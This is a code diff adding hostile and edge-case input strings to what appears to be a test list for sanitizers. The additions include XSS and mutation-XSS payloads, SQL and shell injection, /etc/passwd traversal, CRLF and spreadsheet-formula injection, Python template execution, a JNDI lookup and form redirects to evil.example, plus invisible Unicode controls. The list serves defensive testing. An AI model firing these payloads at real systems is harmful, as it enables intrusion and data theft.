@@ -16,6 +16,67 @@ HOSTILE = (
     "%s %n %00 \\u0000 \\x00",
     "=1+1|cmd",
 )
+MORE = (
+    # Attributes, quotes and comments of every kind.
+    '" onfocus=alert(1) autofocus x="',
+    "' style='background:red' x='",
+    "` onload=`alert(1)",
+    "--><img src=x onerror=alert(1)><!--",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<IMG SRC=javascript:alert(1)>",
+    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<base href=//evil.example><meta http-equiv=refresh content=0>",
+    "<input name=csrf_token value=x><button formaction=//evil.example>x</button>",
+    "<p data-draft data-keep=/x hx-on:click=alert(1) data-hx-get=/logout>x</p>",
+    "javascript:alert(1)//http://a.example",
+    "&#60;script&#62;alert(1)&#60;/script&#62; &lt;script&gt;",
+    # Other languages that might read it.
+    "' OR '1'='1'; --",
+    "1; DROP TABLE users /*",
+    "$(id) `id` ; id | id && id",
+    "../../../../etc/passwd",
+    "%0d%0aSet-Cookie:%20x=1",
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "{__import__('os').system('id')}",
+    "%(password)s {password} ${jndi:ldap://evil.example/x}",
+    # Words that programs take for something else.
+    "null",
+    "undefined",
+    "NaN",
+    "None",
+    "True",
+    "0",
+    "-1",
+    "1e1000",
+    "۱۲۳۴۵۶۷۸۹۰",
+    "__proto__",
+    "constructor",
+    # Letters of all kinds.
+    "👩‍👩‍👧‍👦 🏳️‍🌈 👋🏿 🇮🇷",
+    "مي‌خواهم كتاب‌هاي ۀ ة أ إ ؤ",
+    "سَلامٌ عَلَيكُم ﷽",
+    "שָׁלוֹם עולם",
+    "Ω≈ç√∫ ˜µ≤ ﬁ ﬂ Ⅷ ①",
+    "ﾊﾛｰ・ワールド 田中さん 전화",
+    "ثپثپ-ABC-سلام (RTL) [LTR] «گیومه»",
+    "A" * 100,
+    "ی" * 100,
+)
+# What is cleaned before it is kept: it cannot be seen, no database holds it, or it has a shorter spelling.
+HIDDEN = (
+    "e\u0301\u0302\u0303 Z\u0351\u036b\u0343a\u0322l\u0321g\u0321o",
+    "س\u200c\u200c\u200cلام",
+    "\u202eمعکوس\u202c",
+    "\u2066جدا\u2069 \u200eچپ\u200f",
+    "نول\x00میان",
+    "زنگ\x07\x1b[31mقرمز",
+    "\ufeffنشان",
+    "سلام" + "\u0301" * 500,
+    "\ue000 خصوصی",
+)
 # What no page may hold, whoever typed it.
 LIVE = (
     "<script>alert",
